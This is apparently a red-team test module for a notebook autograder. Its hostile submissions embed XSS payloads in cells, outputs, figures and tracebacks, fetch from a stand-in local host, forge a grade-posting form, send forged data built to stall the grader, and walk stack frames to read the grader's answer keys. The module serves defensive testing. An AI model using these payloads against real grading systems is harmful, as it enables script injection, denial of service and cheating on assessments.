    """Added cells of text and of raw HTML hold scripts."""
    sub.text(page(sub, "<script>CALL</script>"))
    sub.notebook.cells.append(new_raw_cell(page(sub, "<script>CALL</script>"), metadata={"raw_mimetype": "text/html"}))
    sub.notebook.cells.append(
        new_markdown_cell(
            page(sub, "![x](attachment:a.svg)"), attachments={"a.svg": {"image/svg+xml": page(sub, "<svg onload='CALL'/>")}}
        )
    )


@hostile
def scripts_in_outputs(sub: Handing):
    """Outputs of HTML, JavaScript, SVG and Markdown hold scripts."""
    sub.first.source = page(
        sub,
        'from IPython.display import HTML, Javascript, Markdown, SVG, display\ncode = """CALL"""\ndisplay(HTML("<script>" + code + "</script><iframe srcdoc=\'<script>parent." + code + "</script>\'></iframe>"))\n'
        'display(Javascript(code))\ndisplay(Markdown("<img src=x onerror=\\"" + code + "\\"> ![](http://127.0.0.1:PORT/redteam-page)"))\ndisplay(SVG("<svg xmlns=\'http://www.w3.org/2000/svg\'><script>" + code + "</script></svg>"))\n'
        'display({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>" + code}, "text/latex": "$</script><script>" + code, "text/vnd.mermaid": "<img src=x onerror=1>"}, raw=True)',
    )


@hostile
def outputs_that_call_themselves_ours(sub: Handing):
    """Outputs carry the marks by which the page knows its own figures, and metadata that becomes attributes."""
    sub.first.source = page(
        sub,
        'from IPython.display import display\ncode = """CALL"""\nfor about in ({"course": "figure"}, {"isolated": True}, {"text/html": {"isolated": True}}):\n    display({"text/html": "<script>" + code + "</script>"}, raw=True, metadata=about)\n'
        'import base64\npng = base64.b64encode(b"\\x89PNG\\r\\n\\x1a\\n" + bytes(40)).decode()\ndisplay({"image/png": png}, raw=True, metadata={"image/png": {"width": "1 onerror=" + code, "alt": "\\"><script>" + code}, "width": "\\"><script>"})',
    )


@hostile
def errors_that_are_html(sub: Handing):
    """Names of errors, tracebacks and text hold HTML and control characters."""
    sub.first.source = page(
        sub,
        'import sys\ncode = "<script>CALL</script>"\nprint(code, "\\x1b[31m" + code, "\\x1b]8;;javascript:1\\x07x", file=sys.stderr)\n'
        "class Strange(Exception):\n    def _render_traceback_(self): return [code, '\\x1b[0m' + code]\nStrange.__name__ = code\nraise Strange(code)",
    )


@hostile
def a_figure_that_fetches(sub: Handing):
    """Plotly figures with images, maps, links and scripts in their texts."""
    sub.first.source = page(
        sub,
        "import plotly.graph_objects as go\nfrom IPython.display import display\n"
        'display({"application/vnd.plotly.v1+json": {"data": [{"type": "scattergeo", "lon": [1], "lat": [2]}, {"type": "image", "source": "http://127.0.0.1:PORT/redteam-page"}, {"type": "bar", "x": ["</script><script>CALL</script>"], "y": [1]}],\n'
        ' "layout": {"title": {"text": "<a href=\\"javascript:CALL\\">x</a></script><script>CALL</script>"}, "images": [{"source": "http://127.0.0.1:PORT/redteam-page", "x": 0, "y": 1, "sizex": 1, "sizey": 1}], "map": {"style": "http://127.0.0.1:PORT/redteam-page"}}}}, raw=True)\n'
        'display({"application/vnd.plotly.v1+json": {"data": 3, "layout": [], "frames": "x"}}, raw=True)\ndisplay({"application/vnd.plotly.v1+json": "x"}, raw=True)',
    )


@hostile
def styles_that_fetch_or_hide(sub: Handing):
    """Styles that fetch, that lay something over the page, and names that the page's scripts look for."""
    sub.first.source = page(
        sub,
        "from IPython.display import HTML, display\ndisplay(HTML(\"<style>@import 'http://127.0.0.1:PORT/redteam-page'; body { display: none }</style><div style='position:fixed;inset:0;background:url(http://127.0.0.1:PORT/redteam-page)'>x</div>"
        "<link rel=stylesheet href=http://127.0.0.1:PORT/redteam-page><meta http-equiv=refresh content='0;url=http://127.0.0.1:PORT/redteam-page'><base href=http://127.0.0.1:PORT/><input id=memo class=score value=12><form action=/formgrader/api/grade/1 method=post><button>save</button></form>\"))",
    )


@hostile
def a_page_that_takes_for_ever(sub: Handing):
    """Text that readers of Markdown, HTML and code take for ever over."""
    sub.memo.source = ">" * 30_000 + "$$" * 10_000 + "[" * 20_000 + "\\begin{a}" * 3_000
    sub.text("* " * 20_000)
    sub.code("x = " + "(" * 50_000)
    sub.first.source = "from IPython.display import HTML, display\ndisplay(HTML('<ul><li>' * 10_000))\n#" + "'\"" * 60_000


# --- forged data that is made to be slow or to break the judge -------------------------------------------------------------------------


def forged(answer: str) -> str:
    return (
        f"import json\nfrom IPython.display import display\ndata = {answer}\n"
        f"def check(name, value): display({{'{MIME}': json.dumps({{'exercise': name, 'answer': data}}), 'text/plain': ''}}, raw=True)"
    )


@hostile
def forged_titles(sub: Handing):
    """A figure whose titles no pattern should have to walk (13 s once)."""
    sub.before_all(
        forged(
            "{'kind': 'figure', 'title': '(' * 150_000, 'axes': {'x': {'title': '(a' * 20_000}, 'y': {'title': '(a' * 20_000, 'range': []}}, 'traces': [{'type': 'bar', 'x': ['a'], 'y': [1]}] * 40}"
        )
    )


@hostile
def forged_marks(sub: Handing):
    """Texts of eighty thousand marks on one letter (20 s once)."""
    sub.before_all(forged("{'kind': 'text', 'value': 'a' + '\\u0327\\u0301' * 40_000}"))


@hostile
def forged_depth(sub: Handing):
    """Data nested ten thousand times, and data that is no JSON."""
    sub.before_all(
        "import json\nfrom IPython.display import display\n"
        + f'def check(name, value): display({{\'{MIME}\': \'{{"answer": \' + \'[\' * 100_000}}, raw=True); display({{\'{MIME}\': \'{{"answer": {{"kind": "number", "type": "exact", "value": NaN}}}}\'}}, raw=True)'
    )


@hostile
def forged_width(sub: Handing):
    """A table of a million values, a number of a million digits."""
    sub.before_all(
        forged(
            "{'kind': 'table', 'rows': 10**6, 'index': [], 'columns': [{'name': 'x', 'type': 'exact', 'values': [1] * 900_000}]}"
        )
    )


@hostile
def forged_kinds(sub: Handing):
    """Data of every kind with parts of wrong types."""
    sub.before_all(
        "import json, itertools\nfrom IPython.display import display\n"
        "odd = itertools.cycle([{'kind': k, 'type': t, 'value': v, 'rows': v, 'columns': v, 'index': t, 'entries': v, 'traces': v, 'axes': t, 'returns': v, 'title': v} for k in ('table', 'series', 'number', 'text', 'mapping', 'figure', 'function', [])\n"
        "  for t in ([], {}, None, 'exact') for v in ([{}], [[1]], -1, {'a': []}, 'x', None)])\n"
        f"def check(name, value): display({{'{MIME}': json.dumps({{'exercise': name, 'answer': next(odd)}})}}, raw=True)"
    )


@hostile
def a_hundred_answers_to_each_check(sub: Handing):
    """Each check records a hundred answers of growing size."""
    sub.before_all(
        forged("{'kind': 'text', 'value': 'x' * 2000}")
        + "\none = check\ndef check(name, value):\n    for _ in range(100): one(name, value)"
    )


@hostile
def an_answer_that_changes_as_it_is_read(sub: Handing):
    """Tables whose values differ each time they are read, and columns that raise."""
    sub.every_answer(
        "import pandas as pd\nclass Shifting(pd.DataFrame):\n    n = 0\n    @property\n    def iloc(self):\n        Shifting.n += 1\n        if Shifting.n % 3 == 0: raise SystemExit\n        return super().iloc\n"
        "VARIABLE = Shifting({'a': [1, 2]})"
    )


@hostile
def exceptions_that_go_through_everything(sub: Handing):
    """Objects that raise what nobody catches when they are looked at."""
    sub.every_answer(
        "class Loud:\n    def __repr__(self): raise KeyboardInterrupt\n    def __getattribute__(self, name): raise GeneratorExit\n    def __class__(self): raise SystemExit\nVARIABLE = Loud()"
    )


@hostile
def typed_in_from_the_shown_edition(sub: Handing):
    """Right words of the class edition typed in for every quick question with a number, and tables of constants."""
    sub.every_answer("import pandas as pd\nVARIABLE = pd.DataFrame({'date': ['2023-06-18'], 'orders': [1]})")


@hostile
def reads_the_judge_through_its_traceback(sub: Handing):
    """Frames of whoever called are walked for keys and truths."""
    sub.first.source = (
        "import sys, gc\nframe = sys._getframe()\nwhile frame:\n    for name, value in list(frame.f_locals.items()):\n        if 'key' in name.lower() or 'truth' in name.lower(): print(name, str(value)[:300])\n    frame = frame.f_back\n"
        "print([type(o).__name__ for o in gc.get_objects() if type(o).__name__ in ('Key', 'KnownWrong', 'Aligned', 'Edition')][:20])\nprint([str(vars(o))[:500] for o in gc.get_objects() if type(o).__name__ == 'Key'][:5])"
    )
